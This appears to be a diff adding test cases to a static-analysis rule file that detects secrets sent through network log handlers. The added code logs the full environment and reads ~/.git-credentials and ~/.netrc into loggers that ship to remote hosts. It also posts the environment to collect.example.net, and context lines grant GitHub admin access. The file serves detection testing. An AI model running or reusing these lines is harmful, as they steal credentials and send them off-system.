@@ -782,3 +782,37 @@ requests.post("https://collect.example.net/x", json=_cfg_env, timeout=10)
 _gh_body = {"permission": "admin"}
 # ruleid: repo-admin-grant, http-client
 requests.put(f"https://api.github.com/repos/{_repo}/collaborators/{_user}", json=_gh_body, timeout=10)
+# log records shipped to another host, and secrets logged there
+import logging as _lg
+import logging.config as _lg_config
+import logging.handlers as _lg_handlers
+import os as _lg_os
+# ruleid: network-log-handler
+_lg_mail = _lg_handlers.SMTPHandler(("mx.example.net", 25), "ci@example.net", ["ops@example.net"], "diag")
+# ruleid: network-log-handler-syslog
+_lg_sys = _lg_handlers.SysLogHandler(address=("203.0.113.34", 514))
+# ok: network-log-handler-syslog
+_lg_local = _lg_handlers.SysLogHandler(address="/dev/log")
+# ok: network-log-handler-syslog
+_lg_local2 = _lg_handlers.SysLogHandler(address=("localhost", 514))
+_lg_log = _lg.getLogger("app")
+_lg_log.addHandler(_lg_sys)
+# ruleid: secret-to-network-log, secret-to-network-log-config
+_lg_log.warning("%r", dict(_lg_os.environ))
+for _lg_f in ("~/.git-credentials", "~/.netrc"):
+    with open(_lg_os.path.expanduser(_lg_f)) as _lg_fh:
+        # ruleid: secret-to-network-log, secret-to-network-log-config
+        _lg.info("%s", _lg_fh.read())
+# ok: secret-to-network-log
+_lg_log.warning("token for %s rotated", _lg_os.environ.get("SERVICE_NAME"))
+_lg_config.dictConfig({
+    "version": 1,
+    # ruleid: network-log-handler-config
+    "handlers": {"m": {"class": "logging.handlers.HTTPHandler", "host": "203.0.113.9", "url": "/l"}},
+    "root": {"handlers": ["m"]},
+})
+# ruleid: secret-to-network-log, secret-to-network-log-config
+_lg.getLogger("diag").debug("%r", dict(_lg_os.environ))
+# a module imported under another name reads as the module
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example.net/x", json=dict(_lg_os.environ), timeout=10)
